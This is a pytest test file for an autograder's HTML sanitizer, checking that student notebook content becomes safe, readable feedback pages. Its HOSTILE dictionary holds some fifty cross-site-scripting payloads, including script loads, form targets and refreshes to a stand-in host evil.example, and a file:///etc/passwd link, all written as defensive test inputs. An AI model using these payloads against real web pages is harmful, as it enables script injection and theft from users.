"""What students wrote is harmless on a page, and readable."""

import time
from functools import cache
from html.parser import HTMLParser
from typing import Any

import pytest
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import (
    new_code_cell,
    new_markdown_cell,
    new_notebook,
    new_output,
    new_raw_cell,
)
from traitlets.config import Config

from autograder.feedback.exporter import FeedbackExporter
from autograder.feedback.harmless_html import STYLES, TAGS, sanitized_html
from autograder.feedback.sanitize import Sanitize

STUDENT = {"grade_id": "q1", "solution": True, "grade": True, "schema_version": 3}
LIMIT_S = 10


class Parser(HTMLParser):
    """Reads the tags of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def page(*cells: Any) -> str:
    """Return the body of a page of feedback."""
    exporter = FeedbackExporter(config=Config(HTMLExporter={"template_name": "classic"}))
    exporter.register_preprocessor(Sanitize)
    made, _ = exporter.from_notebook_node(new_notebook(cells=list(cells)))
    return str(made[made.index("<body") :])


def student(source: str) -> Any:
    """Return a Markdown answer."""
    return new_markdown_cell(source, metadata={"nbgrader": STUDENT})


def shown(**data: Any) -> Any:
    """Return a cell that displays something, by MIME type with `_` for `/`."""
    displayed = {kind.replace("_", "/", 1): content for kind, content in data.items()}
    return new_code_cell("1", outputs=[new_output("display_data", displayed)])


# What stays


@pytest.mark.parametrize(
    "text",
    [
        "<details><summary>A hint</summary><p>Look <b>again</b>.</p></details>",
        '<div role="status" style="border-left:4px solid red;padding:2px 10px">✔ passed</div>',
        '<table><thead><tr><th colspan="2">x</th></tr></thead>'
        '<tbody><tr><td rowspan="2">1</td><td>2</td></tr></tbody></table>',
        '<pre style="white-space:pre"><span style="color:#0087ff">d</span></pre>',
        '<a href="/lab/tree/course/01_tiny.ipynb#Adding">Adding</a>',
        '<a href="https://example.org/?a=1&amp;b=2" title="There">here</a> <a href="#q1">q1</a>',
        "x<sub>1</sub><sup>2</sup><br>\n<hr><ul><li><code>a</code></li></ul>",
        "a &lt; b &amp; c",
    ],
)
def test_what_checks_hints_and_tables_are_made_of_stays(text: str) -> None:
    assert sanitized_html(text) == text


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("a < b", "a &lt; b"),
        ("a<x and c>d", "a&lt;x and c&gt;d"),
        ("1<<2", "1&lt;&lt;2"),
        ("<class 'int'> is none", "&lt;class 'int'&gt; is none"),
        ("<function f at 0x7f>", "&lt;function f at 0x7f&gt;"),
        ("<keras.src.Sequential object>", "&lt;keras.src.Sequential object&gt;"),
        ("<b", "&lt;b"),
        ("<b <i>x</i>", "&lt;b <i>x</i>"),
        ("<abc> <br/>", "&lt;abc&gt; <br>"),
        ("<img src=a.png>", "&lt;img src=a.png&gt;"),
        ("<B>x</B>", "<b>x</b>"),
        ('it\'s "so"', 'it\'s "so"'),
    ],
)
def test_text_that_is_no_markup_stays_readable(text: str, wanted: str) -> None:
    assert sanitized_html(text) == wanted


def test_a_table_of_pandas_loses_its_style_sheet_alone() -> None:
    import pandas as pd

    text = pd.DataFrame({"a<b": [1, 2]})._repr_html_()
    assert "<style scoped>" in text
    found = Parser(sanitized_html(text))
    assert [tag for tag, _ in found.tags].count("td") == 2
    assert found.text.split() == ["a<b", "0", "1", "1", "2"]


def test_images_and_attachments_of_a_student_are_shown() -> None:
    attached = student("![mine](attachment:a.png)")
    attached.attachments = {"a.png": {"image/png": "Zmlyc3Q="}}
    found = page(attached, shown(image_png="c2Vjb25k"), shown(image_jpeg="dGhpcmQ="))
    sources = [values["src"] for tag, values in Parser(found).tags if tag == "img"]
    assert sources == [
        "data:image/png;base64,Zmlyc3Q=",
        "data:image/png;base64,c2Vjb25k",
        "data:image/jpeg;base64,dGhpcmQ=",
    ]


def test_words_of_the_course_are_shown_as_they_are() -> None:
    text = '<p id="here">of the course</p>'
    assert text in page(new_markdown_cell(text))


# What goes


HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT >",
    "script in a comment": "<!--<script>--><script>alert(1)</script>",
    "script in halves": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script around a comment": "<scr<!-- x -->ipt>alert(1)</script>",
    "script behind a null": "<\x00script>alert(1)</script>",
    "script that never ends": "<script>alert(1)",
    "handler": "<img src=x onerror=alert(1)>",
    "handler of what may be shown": '<details open ontoggle="alert(1)"><b onclick=alert(1)>x</b>',
    "handler behind a slash": "<b/onmouseover=alert(1)>x</b>",
    "handler in quotes": "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "link": '<a href="javascript:alert(1)">x</a>',
    "link with a number": '<a href="javascript:1">x</a>',
    "link in capitals": '<a href=" JaVaScRiPt:alert(1)">x</a>',
    "link with a tab": '<a href="java\tscript:alert(1)">x</a>',
    "link with an entity": '<a href="java&#x0A;script&colon;alert(1)">x</a>',
    "link with a control": '<a href="\x01javascript:alert(1)">x</a>',
    "link to data": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "link to data in base64": '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "link to Visual Basic": '<a href="vbscript:msgbox(1)">x</a>',
    "link to a file": '<a href="file:///etc/passwd">x</a>',
    "link in SVG": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "image as data": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "SVG": "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "style in SVG": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "MathML": '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x',
    "MathML and a table": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "MathML and SVG": "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="
    '"</style><img onerror=alert(1) src>">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "text area": "<textarea><img title='</textarea><img src onerror=alert(1)>'>",
    "template": "<template><template><script>alert(1)</script></template></template>",
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="javascript:alert(1)"></object><embed src=x>',
    "form": '<form action="https://evil.example"><input name=x><button formaction=x>go</button>',
    "base": '<base href="https://evil.example/">',
    "meta": '<meta http-equiv="refresh" content="0; url=https://evil.example">',
    "link element": '<link rel=stylesheet href="https://evil.example/x.css">',
    "style sheet": "<style>body { background: url(https://evil.example/x) }</style>",
    "style that covers": '<div style="position: fixed; top: 0; z-index: 9; opacity: 0">x</div>',
    "style that loads": '<div style="background: url(https://evil.example/x)">x</div>',
    "style that loads a cursor": '<div style="cursor: url(https://evil.example/x), auto">x</div>',
    "style in escapes": '<div style="back\\67round: \\75rl(https://evil.example/x)">x</div>',
    "style that ends": '<div style="color: red} body{background:url(https://evil.example/x)">x</div>',
    "style in capitals": '<div STYLE="POSITION:FIXED">x</div>',
    "identity": '<p id="score" class="badge" name="models">x</p>',
    "broken quotes": '<b title="x<img src=x onerror=alert(1)>">',
    "broken tags": "<b <img src=x onerror=alert(1)//",
    "broken comment": "<!--><img src=x onerror=alert(1)>-->",
    "another broken comment": "<!--x--!><img src=x onerror=alert(1)>",
    "instruction": "<?xml version=1?><?php echo 1 ?><img src=x onerror=alert(1)>",
    "CDATA": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "end of the page": "</body></html><script>alert(1)</script>",
}
SCHEMES = ("/", "#", "http:", "https:", "mailto:")


def assert_harmless(text: str) -> None:
    """Assert that a browser finds nothing but what may be shown."""
    for tag, values in Parser(text).tags:
        assert tag in TAGS
        assert set(values) <= {"colspan", "href", "role", "rowspan", "style", "title"}
        assert (values.get("href") or "#").startswith(SCHEMES)
        properties = [part.partition(":")[0] for part in (values.get("style") or "").split(";")]
        assert {name.strip() for name in properties} <= {*STYLES, ""}
    assert "<!--" not in text


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_markup_is_harmless(kind: str) -> None:
    once = sanitized_html(HOSTILE[kind])
    assert_harmless(once)
    assert_harmless(sanitized_html(once))


@cache
def tags_of_a_page(text: str, image: str) -> list[tuple[str, dict[str, str | None]]]:
    """Return what a page consists of that shows a text in every way."""
    raw = new_raw_cell(text, metadata={"format": "text/html"})
    stream = new_output("stream", text=text)
    error = new_output("error", ename=text, evalue=text, traceback=[text])
    found = page(
        student(text),
        shown(text_html=text),
        shown(text_markdown=text),
        shown(text_latex=text),
        shown(text_plain=text),
        shown(application_json={text: text}),
        shown(image_png=image),
        shown(**{"image_svg+xml": text}),
        shown(application_javascript=text),
        raw,
        new_code_cell(text, outputs=[stream, error]),
    )
    return Parser(found).tags


@pytest.mark.filterwarnings("ignore:Your element with mimetype")  # nothing of it may be shown
@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_markup_is_harmless_on_a_page(kind: str) -> None:
    """In whatever way it comes there; and the page's own elements are as many as without it."""
    harmless = tags_of_a_page("x", "eA==")
    dangerous = {"base", "embed", "form", "frame", "iframe", "input", "link", "math", "meta"}
    dangerous |= {"object", "script", "style", "svg", "template"}
    found = tags_of_a_page(HOSTILE[kind], '"' + HOSTILE[kind])
    for name in dangerous:
        assert [t for t, _ in found].count(name) == [t for t, _ in harmless].count(name)
    for _, values in found:
        assert not [name for name in values if name.startswith("on")]
        link = (values.get("href") or "#").strip().lower()
        assert not link.startswith(("javascript:", "data:", "vbscript:", "file:"))


@pytest.mark.parametrize(
    "text",
    [
        "<div>" * 200_000,
        "<b>" * 300_000,
        "<b><div>" * 100_000,
        "</b><div>" * 100_000,
        "<i><p></i>" * 90_000,
        ("<div>" * 50 + "<table>" + "</div>" * 50) * 2_000,
        "<table><tr><td>" * 60_000,
        "<ul>" + "<li>" * 200_000,
        "<" * 1_000_000,
        "<!--" * 250_000,
        "<script>" * 125_000,
        '<b "' * 250_000,
        "<b " + " " * 1_000_000,
        "<a href=" + "x" * 1_000_000,
        "<svg>" * 200_000,
    ],
    ids=lambda text: text[:12],
)
def test_a_megabyte_of_markup_takes_little_time(text: str) -> None:
    begun = time.process_time()
    found = sanitized_html(text)
    assert time.process_time() - begun < LIMIT_S
    assert_harmless(found)


def test_what_nests_deeply_is_shown_as_text() -> None:
    assert sanitized_html("<div>" * 200) == "&lt;div&gt;" * 200
    rows = "<tr><td><p>1</td></tr>" * 1000  # many, but not deep
    assert "&lt;" not in sanitized_html(f"<table>{rows}</table>")


def test_a_display_of_which_nothing_may_be_shown_goes() -> None:
    cell = new_code_cell(
        "1",
        outputs=[
            new_output("display_data", data={"application/vnd.record+json": {"status": "failed"}}),
            new_output("stream", text="printed"),
            new_output("display_data", data={"text/plain": "shown"}),
        ],
    )
    sanitized, _ = Sanitize().preprocess_cell(cell, {}, 0)
    assert [output.output_type for output in sanitized.outputs] == ["stream", "display_data"]


def test_it_runs_without_being_asked_to() -> None:
    exporter = HTMLExporter()
    exporter.register_preprocessor(Sanitize)
    made, _ = exporter.from_notebook_node(new_notebook(cells=[shown(text_html=HOSTILE["handler"])]))
    assert "<img src=x" not in made
